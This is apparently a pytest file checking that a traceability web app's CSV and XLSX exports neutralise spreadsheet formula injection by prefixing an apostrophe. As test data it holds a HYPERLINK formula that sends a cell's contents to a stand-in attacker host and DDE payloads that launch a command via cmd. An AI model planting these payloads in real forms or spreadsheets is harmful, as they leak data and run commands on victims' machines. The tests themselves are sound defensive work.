"""Issue 14 item 3: no spreadsheet the system writes runs text as a formula (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from gi_trace import spreadsheets
from gi_trace.timeutil import local_today
from tests.conftest import login
from tests.factories import DecisionFactory, ProducerFactory, UserFactory

PAYLOAD = '=HYPERLINK("http://evil.cn?"&B2,"X")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
TOKEN_RE = re.compile(r'name="csrf_token" type="hidden" value="([^"]+)"')


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+A1", "@SUM(A1)", "\t=1", "\r=1", PAYLOAD])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheets.guard(text) == "'" + text


@pytest.mark.parametrize("value", ["中宁枸杞", "a=b", "", -3, 2.5, None, True])
def test_other_values_are_left_alone(value):
    assert spreadsheets.guard(value) == value


def _cells_of_zip(body: bytes) -> tuple[dict[str, list[list[str]]], dict[str, list[list]]]:
    csvs, sheets = {}, {}
    with zipfile.ZipFile(io.BytesIO(body)) as zf:
        for name in zf.namelist():
            if name.endswith(".csv"):
                text = zf.read(name).decode("utf-8-sig")
                csvs[name.rsplit("/", 1)[-1]] = list(csv.reader(io.StringIO(text, newline="")))
            elif name.endswith(".xlsx"):
                wb = load_workbook(io.BytesIO(zf.read(name)))
                sheets = {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in wb.worksheets}
    return csvs, sheets


def test_formula_typed_into_the_public_complaint_form_reaches_the_report_zip_as_text(client, session):
    producer = ProducerFactory(name="=cmd|' /C calc'!A0")
    DecisionFactory(producer_id=producer.id, effective_date=date(2024, 3, 1), reason="@SUM(1+1)*cmd|' /C calc'!A0")
    UserFactory(username="city")
    session.commit()
    html = client.get("/report").get_data(as_text=True)
    token = TOKEN_RE.search(html).group(1)
    sent = client.post("/report", data={"csrf_token": token, "code": PAYLOAD, "category": "counterfeit",
                                        "text": "假冒产品", "contact": ""})
    assert sent.status_code == 303, sent.get_data(as_text=True)[:300]
    login(client, "city")
    year = local_today().year
    response = client.get(f"/oversight/reports/annual.zip?product=zhongning-goji&year={year}")
    assert response.status_code == 200
    csvs, sheets = _cells_of_zip(response.get_data())
    complaints = csvs["complaints.csv"]
    code_at = complaints[0].index("code")
    assert complaints[1][code_at].startswith("'=HYPERLINK(")
    assert sheets["complaints"][1][code_at].startswith("'=HYPERLINK(")
    every_cell = [cell for rows in csvs.values() for row in rows for cell in row]
    every_cell += [cell for rows in sheets.values() for row in rows for cell in row if isinstance(cell, str)]
    assert any("cmd|" in cell for cell in every_cell)  # the producer's name is in the tables ...
    assert [cell for cell in every_cell if cell[:1] in FORMULA_START] == []  # ... and nothing would run


def test_import_templates_and_recall_lists_use_the_guarded_writer():
    from gi_trace.oversight import recall
    from gi_trace.registry import imports

    assert imports.template_csv("producers").startswith("\ufeff".encode())
    row = {key: "" for key, _label in recall.COLUMNS}
    first = recall.COLUMNS[0][0]
    row[first] = "+SUM(1)"
    text = recall.to_csv([row]).decode("utf-8-sig")
    assert "'+SUM(1)" in text
    wb = load_workbook(io.BytesIO(recall.to_xlsx([row])))
    assert wb.active["A2"].value == "'+SUM(1)"
